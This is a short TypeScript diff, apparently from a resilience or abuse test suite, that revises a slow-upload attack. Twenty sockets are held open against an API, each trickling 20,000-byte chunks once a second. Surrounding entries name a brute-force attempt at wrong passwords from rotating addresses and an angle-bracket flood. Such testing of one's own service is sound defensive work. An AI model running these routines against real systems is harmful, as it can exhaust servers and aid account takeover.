@@ -25,6 +25,8 @@ export interface Target {
 }
 
 const HELD_UPLOADS = 20;
+/** A second, on each of them. */
+const SLOW_BYTES = 20_000;
 const HELD_SOCKETS = 60;
 const AT_ONCE = 4;
 const ANGLE_BRACKETS = 40_000;
@@ -70,12 +72,12 @@ export const ATTACKS = {
   },
   "20 slow upload sockets of one editor": ({ apiUrl, credential, uploadUuid }: Target) => {
     const request = chunkRequest(uploadUuid, credential);
-    const [most, rest] = [request.slice(0, 0.9 * request.length), request.slice(0.9 * request.length)];
     for (let count = 0; count < HELD_UPLOADS; count += 1)
       hold(apiUrl, (send) => {
-        send(most);
-        for (const [second, byte] of [...rest.slice(0, 60)].entries())
-          setTimeout(() => send(byte), 1_000 * second).unref();
+        for (let second = 0; second < 60; second += 1) {
+          const part = request.slice(second * SLOW_BYTES, (second + 1) * SLOW_BYTES);
+          setTimeout(() => send(part), 1_000 * second).unref();
+        }
       });
   },
   "wrong passwords, from an address each": ({ apiUrl }: Target) => {
